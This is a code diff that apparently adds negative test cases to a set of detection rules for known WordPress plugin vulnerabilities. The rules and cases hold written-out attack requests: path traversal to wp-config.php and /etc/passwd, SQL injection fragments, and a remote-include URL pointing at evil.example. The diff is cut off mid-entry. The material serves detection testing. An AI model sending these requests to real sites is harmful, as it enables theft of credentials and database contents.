@@ -10,6 +10,15 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=revslider_show_image', 'img~path'],
     hit: 'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
+    misses: [
+      'GET /wp-admin/admin-ajax.php-guide?action=revslider_show_image&img=../wp-config.php',
+      'GET /wp-admin/admin-ajax.php?action=list&img=../wp-config.php',
+      'GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=list',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-revslider-ajax',
@@ -19,6 +28,11 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=revslider_ajax_action'],
     hit: 'POST /wp-admin/admin-ajax.php?action=revslider_ajax_action',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=revslider_ajax_action',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=revslider_ajax_action' },
+    ],
   },
   {
     name: 'wp-revslider-css',
@@ -27,6 +41,13 @@ export default [
     cve: ['2014-9735'],
     path: '/wp-content/plugins/revslider/temp/update_extract/',
     hit: 'GET /wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
+    misses: [
+      'GET /search?q=/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
+      },
+    ],
   },
   {
     name: 'wp-showbiz',
@@ -36,6 +57,11 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=showbiz_ajax_action'],
     hit: 'POST /wp-admin/admin-ajax.php?action=showbiz_ajax_action',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=showbiz_ajax_action',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=showbiz_ajax_action' },
+    ],
   },
   {
     name: 'wp-file-manager',
@@ -45,6 +71,13 @@ export default [
     path: '/wp-file-manager/lib/php/connector*',
     severity: 'critical',
     hit: 'POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
+    misses: [
+      'GET /search?q=/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
+      },
+    ],
   },
   {
     name: 'wp-file-manager-files',
@@ -53,6 +86,10 @@ export default [
     cve: ['2020-25213'],
     path: '/wp-file-manager/lib/files/',
     hit: 'GET /wp-content/plugins/wp-file-manager/lib/files/x.php',
+    misses: [
+      'GET /search?q=/wp-content/plugins/wp-file-manager/lib/files/x.php',
+      { referrer: 'https://www.example.com/wp-content/plugins/wp-file-manager/lib/files/x.php' },
+    ],
   },
   {
     name: 'wp-automatic-csv',
@@ -62,6 +99,10 @@ export default [
     path: '/wp-automatic/inc/csv.php',
     severity: 'critical',
     hit: 'POST /wp-content/plugins/wp-automatic/inc/csv.php',
+    misses: [
+      'POST /wp-content/plugins/wp-automatic/inc/csv.php-guide',
+      'GET /search?q=/wp-content/plugins/wp-automatic/inc/csv.php',
+    ],
   },
   {
     name: 'wp-automatic-download',
@@ -72,6 +113,11 @@ export default [
     args: ['wp_automatic=download', 'link~path'],
     severity: 'critical',
     hit: 'GET /?p=3232&wp_automatic=download&link=file:///etc/passwd',
+    misses: [
+      'GET /?p=3232&wp_automatic=download&link=list',
+      'GET /?p=3232&wp_automatic=list&link=file:///etc/passwd',
+      { referrer: 'https://www.example.com/?p=3232&wp_automatic=download&link=file:///etc/passwd' },
+    ],
   },
   {
     name: 'wp-bricks-render',
@@ -81,6 +127,10 @@ export default [
     path: '/wp-json/bricks/v1/render_element',
     severity: 'critical',
     hit: 'POST /wp-json/bricks/v1/render_element',
+    misses: [
+      'POST /wp-json/bricks/v1/render_element-guide',
+      'GET /search?q=/wp-json/bricks/v1/render_element',
+    ],
   },
   {
     name: 'wp-bricks-route',
@@ -91,6 +141,11 @@ export default [
     args: ['rest_route=/bricks/v1/render_element'],
     severity: 'critical',
     hit: 'POST /?rest_route=/bricks/v1/render_element',
+    misses: [
+      'POST /?rest_route=list',
+      'POST -guide?rest_route=/bricks/v1/render_element',
+      { referrer: 'https://www.example.com/?rest_route=/bricks/v1/render_element' },
+    ],
   },
   {
     name: 'wp-duplicator-download',
@@ -100,6 +155,15 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=duplicator_download', 'file'],
     hit: 'GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../../wp-config.php',
+    misses: [
+      'GET /wp-admin/admin-ajax.php-guide?action=duplicator_download&file=../../wp-config.php',
+      'GET /wp-admin/admin-ajax.php?action=list&file=../../wp-config.php',
+      'GET /wp-admin/admin-ajax.php?action=duplicator_download',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=duplicator_download&file=../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-duplicator-installer',
@@ -108,6 +172,7 @@ export default [
     cve: ['2018-17207'],
     path: '/installer-backup.php',
     hit: 'GET /installer-backup.php',
+    misses: ['GET /installer-backup.php-guide', 'GET /search?q=/installer-backup.php'],
   },
   {
     name: 'wp-backup-heart',
@@ -117,6 +182,10 @@ export default [
     path: '/backup-backup/includes/backup-heart.php',
     severity: 'critical',
     hit: 'POST /wp-content/plugins/backup-backup/includes/backup-heart.php',
+    misses: [
+      'POST /wp-content/plugins/backup-backup/includes/backup-heart.php-guide',
+      'GET /search?q=/wp-content/plugins/backup-backup/includes/backup-heart.php',
+    ],
   },
   {
     name: 'wp-simple-file-list',
@@ -125,6 +194,13 @@ export default [
     cve: ['2020-36847'],
     path: '/simple-file-list/ee-*',
     hit: 'POST /wp-content/plugins/simple-file-list/ee-upload-engine.php',
+    misses: [
+      'GET /search?q=/wp-content/plugins/simple-file-list/ee-upload-engine.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/simple-file-list/ee-upload-engine.php',
+      },
+    ],
   },
   {
     name: 'wp-wpdiscuz',
@@ -133,6 +209,10 @@ export default [
     cve: ['2020-24186'],
     path: '/wpdiscuz/utils/ajax/wpdiscuz-ajax.php',
     hit: 'POST /wp-content/plugins/wpdiscuz/utils/ajax/wpdiscuz-ajax.php',
+    misses: [
+      'POST /wp-content/plugins/wpdiscuz/utils/ajax/wpdiscuz-ajax.php-guide',
+      'GET /search?q=/wp-content/plugins/wpdiscuz/utils/ajax/wpdiscuz-ajax.php',
+    ],
   },
   {
     name: 'wp-mail-masta',
@@ -142,6 +222,14 @@ export default [
     path: '/mail-masta/inc/',
     args: ['pl'],
     hit: 'GET /wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd',
+    misses: [
+      'GET /wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?my_pl=/etc/passwd',
+      'GET /search?pl=/etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd',
+      },
+    ],
   },
   {
     name: 'wp-ebook-download',
@@ -151,6 +239,14 @@ export default [
     path: '/ebook-download/filedownload.php',
     args: ['ebookdownloadurl'],
     hit: 'GET /wp-content/plugins/ebook-download/filedownload.php?ebookdownloadurl=../../../wp-config.php',
+    misses: [
+      'GET /wp-content/plugins/ebook-download/filedownload.php-guide?ebookdownloadurl=../../../wp-config.php',
+      'GET /wp-content/plugins/ebook-download/filedownload.php?my_ebookdownloadurl=../../../wp-config.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/ebook-download/filedownload.php?ebookdownloadurl=../../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-simple-backup',
@@ -160,6 +256,15 @@ export default [
     path: '/wp-admin/tools.php',
     args: ['page=backup_manager', 'download_backup_file'],
     hit: 'GET /wp-admin/tools.php?page=backup_manager&download_backup_file=../wp-config.php',
+    misses: [
+      'GET /wp-admin/tools.php-guide?page=backup_manager&download_backup_file=../wp-config.php',
+      'GET /wp-admin/tools.php?page=list&download_backup_file=../wp-config.php',
+      'GET /wp-admin/tools.php?page=backup_manager',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/tools.php?page=backup_manager&download_backup_file=../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-history-collection',
@@ -169,6 +274,14 @@ export default [
     path: '/history-collection/download.php',
     args: ['var'],
     hit: 'GET /wp-content/plugins/history-collection/download.php?var=../../../wp-config.php',
+    misses: [
+      'GET /wp-content/plugins/history-collection/download.php-guide?var=../../../wp-config.php',
+      'GET /wp-content/plugins/history-collection/download.php?my_var=../../../wp-config.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/history-collection/download.php?var=../../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-hb-audio',
@@ -178,6 +291,14 @@ export default [
     path: '/hb-audio-gallery-lite/gallery/audio-download.php',
     args: ['file_path'],
     hit: 'GET /wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php?file_path=../../../../wp-config.php',
+    misses: [
+      'GET /wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php-guide?file_path=../../../../wp-config.php',
+      'GET /wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php?my_file_path=../../../../wp-config.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/hb-audio-gallery-lite/gallery/audio-download.php?file_path=../../../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-google-mp3',
@@ -187,6 +308,14 @@ export default [
     path: '/google-mp3-audio-player/direct_download.php',
     args: ['file'],
     hit: 'GET /wp-content/plugins/google-mp3-audio-player/direct_download.php?file=../../../wp-config.php',
+    misses: [
+      'GET /wp-content/plugins/google-mp3-audio-player/direct_download.php-guide?file=../../../wp-config.php',
+      'GET /wp-content/plugins/google-mp3-audio-player/direct_download.php?my_file=../../../wp-config.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/google-mp3-audio-player/direct_download.php?file=../../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-site-editor',
@@ -196,6 +325,14 @@ export default [
     path: '/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php',
     args: ['ajax_path'],
     hit: 'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd',
+    misses: [
+      'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php-guide?ajax_path=/etc/passwd',
+      'GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?my_ajax_path=/etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd',
+      },
+    ],
   },
   {
     name: 'wp-localize-post',
@@ -205,6 +342,14 @@ export default [
     path: '/localize-my-post/ajax/include.php',
     args: ['file'],
     hit: 'GET /wp-content/plugins/localize-my-post/ajax/include.php?file=../../../../etc/passwd',
+    misses: [
+      'GET /wp-content/plugins/localize-my-post/ajax/include.php-guide?file=../../../../etc/passwd',
+      'GET /wp-content/plugins/localize-my-post/ajax/include.php?my_file=../../../../etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/localize-my-post/ajax/include.php?file=../../../../etc/passwd',
+      },
+    ],
   },
   {
     name: 'wp-with-spritz',
@@ -214,6 +359,14 @@ export default [
     path: '/wp-with-spritz/wp.spritz.content.filter.php',
     args: ['url'],
     hit: 'GET /wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=/../../../..//etc/passwd',
+    misses: [
+      'GET /wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php-guide?url=/../../../..//etc/passwd',
+      'GET /wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?my_url=/../../../..//etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=/../../../..//etc/passwd',
+      },
+    ],
   },
   {
     name: 'wp-gracemedia',
@@ -223,6 +376,14 @@ export default [
     path: '/gracemedia-media-player/templates/files/ajax_controller.php',
     args: ['cfg'],
     hit: 'GET /wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds&cfg=../../../../../etc/passwd',
+    misses: [
+      'GET /wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php-guide?ajaxAction=getIds&cfg=../../../../../etc/passwd',
+      'GET /wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/gracemedia-media-player/templates/files/ajax_controller.php?ajaxAction=getIds&cfg=../../../../../etc/passwd',
+      },
+    ],
   },
   {
     name: 'wp-cherry-plugin',
@@ -231,6 +392,13 @@ export default [
     ref: 'https://github.com/CherryFramework/cherry-plugin',
     path: '/cherry-plugin/admin/import-export/',
     hit: 'POST /wp-content/plugins/cherry-plugin/admin/import-export/upload.php',
+    misses: [
+      'GET /search?q=/wp-content/plugins/cherry-plugin/admin/import-export/upload.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/cherry-plugin/admin/import-export/upload.php',
+      },
+    ],
   },
   {
     name: 'wp-gravityforms-upload',
@@ -240,6 +408,11 @@ export default [
     path: '/',
     args: ['gf_page=upload'],
     hit: 'POST /?gf_page=upload',
+    misses: [
+      'POST /?gf_page=list',
+      'POST -guide?gf_page=upload',
+      { referrer: 'https://www.example.com/?gf_page=upload' },
+    ],
   },
   {
     name: 'wp-reflex-gallery',
@@ -248,6 +421,10 @@ export default [
     cve: ['2015-4133'],
     path: '/reflex-gallery/admin/scripts/FileUploader/php.php',
     hit: 'POST /wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php?Year=2024&Month=03',
+    misses: [
+      'POST /wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php-guide?Year=2024&Month=03',
+      'GET /search?q=/wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php',
+    ],
   },
   {
     name: 'wp-symposium',
@@ -256,6 +433,10 @@ export default [
     cve: ['2014-10021'],
     path: '/wp-symposium/server/php/',
     hit: 'POST /wp-content/plugins/wp-symposium/server/php/index.php',
+    misses: [
+      'GET /search?q=/wp-content/plugins/wp-symposium/server/php/index.php',
+      { referrer: 'https://www.example.com/wp-content/plugins/wp-symposium/server/php/index.php' },
+    ],
   },
   {
     name: 'wp-symposium-sql',
@@ -265,6 +446,14 @@ export default [
     path: '/wp-symposium/get_album_item.php',
     args: ['size'],
     hit: 'GET /wp-content/plugins/wp-symposium/get_album_item.php?size=version%28%29%20;%20--',
+    misses: [
+      'GET /wp-content/plugins/wp-symposium/get_album_item.php-guide?size=version%28%29%20;%20--',
+      'GET /wp-content/plugins/wp-symposium/get_album_item.php?my_size=version%28%29%20;%20--',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/wp-symposium/get_album_item.php?size=version%28%29%20;%20--',
+      },
+    ],
   },
   {
     name: 'wp-mailpoet',
@@ -274,6 +463,15 @@ export default [
     path: '/wp-admin/admin-post.php',
     args: ['page=wysija_campaigns', 'action=themes'],
     hit: 'POST /wp-admin/admin-post.php?page=wysija_campaigns&action=themes',
+    misses: [
+      'POST /wp-admin/admin-post.php-guide?page=wysija_campaigns&action=themes',
+      'POST /wp-admin/admin-post.php?page=list&action=themes',
+      'POST /wp-admin/admin-post.php?page=wysija_campaigns&action=list',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-post.php?page=wysija_campaigns&action=themes',
+      },
+    ],
   },
   {
     name: 'wp-ait-csv',
@@ -282,6 +480,10 @@ export default [
     ref: 'https://wpscan.com/vulnerability/10471/',
     path: '/ait-csv-import-export/admin/upload-handler.php',
     hit: 'POST /wp-content/plugins/ait-csv-import-export/admin/upload-handler.php',
+    misses: [
+      'POST /wp-content/plugins/ait-csv-import-export/admin/upload-handler.php-guide',
+      'GET /search?q=/wp-content/plugins/ait-csv-import-export/admin/upload-handler.php',
+    ],
   },
   {
     name: 'wp-kaswara',
@@ -292,6 +494,11 @@ export default [
     args: ['action=uploadFontIcon'],
     severity: 'critical',
     hit: 'POST /wp-admin/admin-ajax.php?action=uploadFontIcon',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=uploadFontIcon',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=uploadFontIcon' },
+    ],
   },
   {
     name: 'wp-royal-elementor',
@@ -302,6 +509,11 @@ export default [
     args: ['action=wpr_addons_upload_file'],
     severity: 'critical',
     hit: 'POST /wp-admin/admin-ajax.php?action=wpr_addons_upload_file',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=wpr_addons_upload_file',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=wpr_addons_upload_file' },
+    ],
   },
   {
     name: 'wp-litespeed-hash',
@@ -311,6 +523,7 @@ export default [
     path: '/wp-content/debug.log',
     severity: 'medium',
     hit: 'GET /wp-content/debug.log',
+    misses: ['GET /wp-content/debug.log-guide', 'GET /search?q=/wp-content/debug.log'],
   },
   {
     name: 'wp-really-simple-ssl',
@@ -320,6 +533,10 @@ export default [
     path: '/reallysimplessl/v1/two_fa/skip_onboarding',
     severity: 'critical',
     hit: 'POST /wp-json/reallysimplessl/v1/two_fa/skip_onboarding',
+    misses: [
+      'POST /wp-json/reallysimplessl/v1/two_fa/skip_onboarding-guide',
+      'GET /search?q=/wp-json/reallysimplessl/v1/two_fa/skip_onboarding',
+    ],
   },
   {
     name: 'wp-ottokit',
@@ -329,6 +546,10 @@ export default [
     path: '/sure-triggers/v1/',
     severity: 'critical',
     hit: 'POST /wp-json/sure-triggers/v1/automation/action',
+    misses: [
+      'GET /search?q=/wp-json/sure-triggers/v1/automation/action',
+      { referrer: 'https://www.example.com/wp-json/sure-triggers/v1/automation/action' },
+    ],
   },
   {
     name: 'wp-ottokit-route',
@@ -339,6 +560,13 @@ export default [
     args: ['rest_route=/wp-json/sure-triggers/'],
     severity: 'critical',
     hit: 'POST /?rest_route=/wp-json/sure-triggers/v1/automation/action',
+    misses: [
+      'POST /?rest_route=list',
+      'POST -guide?rest_route=/wp-json/sure-triggers/v1/automation/action',
+      {
+        referrer: 'https://www.example.com/?rest_route=/wp-json/sure-triggers/v1/automation/action',
+      },
+    ],
   },
   {
     name: 'wp-post-smtp',
@@ -348,6 +576,10 @@ export default [
     path: '/post-smtp/v1/',
     severity: 'high',
     hit: 'POST /wp-json/post-smtp/v1/connect-app',
+    misses: [
+      'GET /search?q=/wp-json/post-smtp/v1/connect-app',
+      { referrer: 'https://www.example.com/wp-json/post-smtp/v1/connect-app' },
+    ],
   },
   {
     name: 'wp-hunk-companion',
@@ -357,6 +589,10 @@ export default [
     path: '/hc/v1/themehunk-import',
     severity: 'critical',
     hit: 'POST /wp-json/hc/v1/themehunk-import',
+    misses: [
+      'POST /wp-json/hc/v1/themehunk-import-guide',
+      'GET /search?q=/wp-json/hc/v1/themehunk-import',
+    ],
   },
   {
     name: 'wp-gutenkit',
@@ -366,6 +602,10 @@ export default [
     path: '/gutenkit/v1/install-active-plugin',
     severity: 'critical',
     hit: 'POST /wp-json/gutenkit/v1/install-active-plugin',
+    misses: [
+      'POST /wp-json/gutenkit/v1/install-active-plugin-guide',
+      'GET /search?q=/wp-json/gutenkit/v1/install-active-plugin',
+    ],
   },
   {
     name: 'wp-email-subscribers',
@@ -375,6 +615,11 @@ export default [
     path: '/wp-admin/admin-post.php',
     args: ['page=es_subscribers'],
     hit: 'POST /wp-admin/admin-post.php?page=es_subscribers&is_ajax=1',
+    misses: [
+      'POST /wp-admin/admin-post.php-guide?page=es_subscribers&is_ajax=1',
+      'POST /wp-admin/admin-post.php?page=list&is_ajax=1',
+      { referrer: 'https://www.example.com/wp-admin/admin-post.php?page=es_subscribers&is_ajax=1' },
+    ],
   },
   {
     name: 'wp-tatsu',
@@ -385,6 +630,11 @@ export default [
     args: ['action=add_custom_font'],
     severity: 'critical',
     hit: 'POST /wp-admin/admin-ajax.php?action=add_custom_font',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=add_custom_font',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=add_custom_font' },
+    ],
   },
   {
     name: 'wp-social-warfare',
@@ -395,6 +645,15 @@ export default [
     args: ['swp_debug', 'swp_url'],
     severity: 'critical',
     hit: 'GET /wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://evil.example/p.txt',
+    misses: [
+      'GET /wp-admin/admin-post.php-guide?swp_debug=load_options&swp_url=http://evil.example/p.txt',
+      'GET /wp-admin/admin-post.php?swp_url=http://evil.example/p.txt',
+      'GET /wp-admin/admin-post.php?swp_debug=load_options',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://evil.example/p.txt',
+      },
+    ],
   },
   {
     name: 'wp-yuzo',
@@ -404,6 +663,11 @@ export default [
     path: '/wp-admin/options-general.php',
     args: ['page=yuzo-related-post'],
     hit: 'POST /wp-admin/options-general.php?page=yuzo-related-post',
+    misses: [
+      'POST /wp-admin/options-general.php-guide?page=yuzo-related-post',
+      'POST /wp-admin/options-general.php?page=list',
+      { referrer: 'https://www.example.com/wp-admin/options-general.php?page=yuzo-related-post' },
+    ],
   },
   {
     name: 'wp-total-donations',
@@ -413,6 +677,11 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=migla_'],
     hit: 'POST /wp-admin/admin-ajax.php?action=migla_getme',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=migla_getme',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=migla_getme' },
+    ],
   },
   {
     name: 'wp-wpgdpr',
@@ -422,6 +691,11 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=wpgdprc_process_action'],
     hit: 'POST /wp-admin/admin-ajax.php?action=wpgdprc_process_action',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=wpgdprc_process_action',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=wpgdprc_process_action' },
+    ],
   },
   {
     name: 'wp-theme-onetone',
@@ -431,6 +705,11 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=onetone_options_import'],
     hit: 'POST /wp-admin/admin-ajax.php?action=onetone_options_import',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=onetone_options_import',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      { referrer: 'https://www.example.com/wp-admin/admin-ajax.php?action=onetone_options_import' },
+    ],
   },
   {
     name: 'wp-epsilon',
@@ -440,6 +719,14 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=epsilon_framework_ajax_action'],
     hit: 'POST /wp-admin/admin-ajax.php?action=epsilon_framework_ajax_action',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=epsilon_framework_ajax_action',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=epsilon_framework_ajax_action',
+      },
+    ],
   },
   {
     name: 'wp-adaptive-images',
@@ -449,6 +736,14 @@ export default [
     path: '/adaptive-images/adaptive-images-script.php',
     args: ['adaptive-images-settings[source_file]'],
     hit: 'GET /wp-content/plugins/adaptive-images/adaptive-images-script.php?adaptive-images-settings[source_file]=../../../wp-config.php',
+    misses: [
+      'GET /wp-content/plugins/adaptive-images/adaptive-images-script.php-guide?adaptive-images-settings[source_file]=../../../wp-config.php',
+      'GET /wp-content/plugins/adaptive-images/adaptive-images-script.php?my_adaptive-images-settings[source_file]=../../../wp-config.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/adaptive-images/adaptive-images-script.php?adaptive-images-settings[source_file]=../../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-rest-google-maps',
@@ -458,6 +753,14 @@ export default [
     path: '/',
     args: ['rest_route=/wpgmza/v1/markers', 'fields'],
     hit: 'GET /?rest_route=/wpgmza/v1/markers&filter=%7b%7d&fields=*+from+wp_users+--+-',
+    misses: [
+      'GET /?rest_route=list&filter=%7b%7d&fields=*+from+wp_users+--+-',
+      'GET /?rest_route=/wpgmza/v1/markers&filter=%7b%7d&my_fields=*+from+wp_users+--+-',
+      {
+        referrer:
+          'https://www.example.com/?rest_route=/wpgmza/v1/markers&filter=%7b%7d&fields=*+from+wp_users+--+-',
+      },
+    ],
   },
   {
     name: 'wp-learnpress',
@@ -467,6 +770,11 @@ export default [
     path: '/wp-json/lp/v1/courses/archive-course',
     args: ['c_only_fields'],
     hit: 'GET /wp-json/lp/v1/courses/archive-course?c_only_fields=x',
+    misses: [
+      'GET /wp-json/lp/v1/courses/archive-course-guide?c_only_fields=x',
+      'GET /wp-json/lp/v1/courses/archive-course?my_c_only_fields=x',
+      { referrer: 'https://www.example.com/wp-json/lp/v1/courses/archive-course?c_only_fields=x' },
+    ],
   },
   {
     name: 'wp-depicter',
@@ -476,6 +784,15 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=depicter-lead-index', 's~quote'],
     hit: 'GET /wp-admin/admin-ajax.php?s=x%27&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
+    misses: [
+      'GET /wp-admin/admin-ajax.php-guide?s=x%27&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
+      'GET /wp-admin/admin-ajax.php?s=list&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
+      'GET /wp-admin/admin-ajax.php?s=x%27&perpage=20&page=1&orderBy=source_id&action=list',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?s=x%27&perpage=20&page=1&orderBy=source_id&action=depicter-lead-index',
+      },
+    ],
   },
   {
     name: 'wp-paid-memberships',
@@ -485,6 +802,11 @@ export default [
     path: '/',
     args: ['rest_route=/pmpro/v1/order', 'code'],
     hit: 'GET /?rest_route=/pmpro/v1/order&code=a%27%20OR',
+    misses: [
+      'GET /?rest_route=list&code=a%27%20OR',
+      'GET /?rest_route=/pmpro/v1/order&my_code=a%27%20OR',
+      { referrer: 'https://www.example.com/?rest_route=/pmpro/v1/order&code=a%27%20OR' },
+    ],
   },
   {
     name: 'wp-edd-sql',
@@ -494,6 +816,15 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=edd_download_search', 's~quote'],
     hit: "GET /wp-admin/admin-ajax.php?action=edd_download_search&s=1'+AND+(SELECT",
+    misses: [
+      "GET /wp-admin/admin-ajax.php-guide?action=edd_download_search&s=1'+AND+(SELECT",
+      "GET /wp-admin/admin-ajax.php?action=list&s=1'+AND+(SELECT",
+      'GET /wp-admin/admin-ajax.php?action=edd_download_search&s=list',
+      {
+        referrer:
+          "https://www.example.com/wp-admin/admin-ajax.php?action=edd_download_search&s=1'+AND+(SELECT",
+      },
+    ],
   },
   {
     name: 'wp-statistics',
@@ -503,6 +834,15 @@ export default [
     path: '/wp-admin/admin.php',
     args: ['page=wps_pages_page', 'ID~quote'],
     hit: 'GET /wp-admin/admin.php?ID=0+AND+(SELECT+1)&page=wps_pages_page&type=1',
+    misses: [
+      'GET /wp-admin/admin.php-guide?ID=0+AND+(SELECT+1)&page=wps_pages_page&type=1',
+      'GET /wp-admin/admin.php?ID=list&page=wps_pages_page&type=1',
+      'GET /wp-admin/admin.php?ID=0+AND+(SELECT+1)&page=list&type=1',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin.php?ID=0+AND+(SELECT+1)&page=wps_pages_page&type=1',
+      },
+    ],
   },
   {
     name: 'wp-perfect-survey',
@@ -512,6 +852,15 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=get_question', 'question_id~quote'],
     hit: 'GET /wp-admin/admin-ajax.php?action=get_question&question_id=1%20union%20select%201',
+    misses: [
+      'GET /wp-admin/admin-ajax.php-guide?action=get_question&question_id=1%20union%20select%201',
+      'GET /wp-admin/admin-ajax.php?action=list&question_id=1%20union%20select%201',
+      'GET /wp-admin/admin-ajax.php?action=get_question&question_id=list',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=get_question&question_id=1%20union%20select%201',
+      },
+    ],
   },
   {
     name: 'wp-modern-events',
@@ -521,6 +870,15 @@ export default [
     path: '/wp-admin/admin.php',
     args: ['page=MEC-ix', 'tab=MEC-export'],
     hit: 'GET /wp-admin/admin.php?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv',
+    misses: [
+      'GET /wp-admin/admin.php-guide?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv',
+      'GET /wp-admin/admin.php?page=list&tab=MEC-export&mec-ix-action=export-events&format=csv',
+      'GET /wp-admin/admin.php?page=MEC-ix&tab=list&mec-ix-action=export-events&format=csv',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin.php?page=MEC-ix&tab=MEC-export&mec-ix-action=export-events&format=csv',
+      },
+    ],
   },
   {
     name: 'wp-woocommerce-store-api',
@@ -530,6 +888,14 @@ export default [
     path: '/wc/store/products/collection-data',
     args: ['calculate_attribute_counts[0][taxonomy]'],
     hit: 'GET /wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529',
+    misses: [
